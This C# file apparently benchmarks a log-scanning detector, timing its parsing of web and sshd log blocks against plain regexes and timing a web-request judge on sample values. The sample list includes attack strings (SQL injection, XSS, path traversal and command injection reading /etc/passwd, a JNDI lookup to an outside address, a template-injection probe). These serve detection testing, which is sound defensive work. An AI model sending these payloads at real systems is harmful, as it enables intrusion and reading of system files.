using System.Text;
using System.Text.RegularExpressions;
using Noroshi.Benchmarks.Logs;
using Noroshi.Core.Content;
using Noroshi.Core.Vocabulary;
using Noroshi.Sensor.Detectors;
using Noroshi.Sensor.Detectors.Web;
using Noroshi.Sensor.Detectors.Web.Knowledge;
using Noroshi.Sensor.Logs;

namespace Noroshi.Benchmarks.Scan;

/// <summary>What a scan does with a block of lines, beside one expression for the same fields; and what a judge does with requests it has not seen before.</summary>
internal static partial class LogBenchmarks
{
    private const int BlockBytes = 64 * 1024;

    [GeneratedRegex("""^(\S+) \S+ (\S+) \[([^\]]+)\] "(\S+) (\S+) [^"]*" (\d{3}) (\d+|-) "([^"]*)" "([^"]*)"$""", RegexOptions.CultureInvariant)]
    private static partial Regex Combined { get; }

    [GeneratedRegex(@"^(\w{3} +\d+ [\d:]{8}) (\S+) sshd\[(\d+)\]: (Failed|Accepted) (\S+) for (?:invalid user )?(.*) from (\S+) port (\d+)", RegexOptions.CultureInvariant)]
    private static partial Regex Sshd { get; }

    internal static IEnumerable<Benchmark> All()
    {
        var (knowledge, settings) = Content();
        yield return Block("logs.web-block", "web", Combined, knowledge, settings);
        yield return Block("logs.auth-block", "auth", Sshd, knowledge, settings);
        WebJudge judge = new(knowledge);
        byte[][] values = [.. Values.Select(Encoding.UTF8.GetBytes)];
        yield return new("web.judge-values", () =>
        {
            foreach (var value in values) judge.JudgeHeader(value);
        });
    }

    private static IEnumerable<string> Values =>
    [
        "1' union select password from users--", "<img src=x onerror=alert(1)>", "../../../../etc/passwd", "; cat /etc/passwd", "${jndi:ldap://198.51.100.7/a}", "{{7*7}}",
        "select a plan that fits", "O'Reilly & sons", "東京都 千代田区", "https://www.example.com/path?x=1&y=2", "a+b=c (maybe)", "2026-11-21T10:00:00+09:00",
    ];

    private static Benchmark Block(string name, string kind, Regex rival, WebKnowledge knowledge, WatchSettings settings)
    {
        using MemoryStream written = new();
        LogsProgram.Write(kind, BlockBytes, 1, written);
        var block = written.ToArray();
        string[] lines = Encoding.UTF8.GetString(block).Split('\n');
        LogReader reader = new(new(LogClock.Utc(DateTimeOffset.UnixEpoch.AddYears(60))));
        WebJudge judge = new(knowledge);
        LineIndex index = new();
        SightingBlock sightings = new(settings);
        return new(name, () => Read(block, reader, judge, index, sightings), $"Regex, {kind} fields only", () =>
        {
            foreach (var line in lines) rival.Match(line);
        });
    }

    private static void Read(ReadOnlySpan<byte> block, LogReader reader, WebJudge judge, LineIndex index, SightingBlock sightings)
    {
        sightings.Begin();
        LogRecord record = new();
        LineCursor cursor = new(index, block);
        while (cursor.TryNext(out var line))
        {
            if (!reader.TryRead(line, cursor.Quotes, ref record)) continue;
            var verdict = record.Kind == RecordKind.Request ? judge.Judge(in record) : WebVerdict.Nothing;
            sightings.Add(block, line, in record, in verdict);
        }
    }

    private static (WebKnowledge, WatchSettings) Content()
    {
        var folder = Path.Combine(AppContext.BaseDirectory, "content");
        ContentFile[] files = [.. Directory.EnumerateFiles(Path.Combine(folder, "detectors"), "*.yaml").Order(StringComparer.Ordinal).Select(f => new ContentFile(Path.GetRelativePath(folder, f), File.ReadAllBytes(f)))];
        List<Fault> faults = [];
        return (WebKnowledge.Of(DetectorRules.Read(files, null, faults), out _), new(BehaviourReader.ReadAll(files, faults).Select(b => b.Setting)));
    }
}
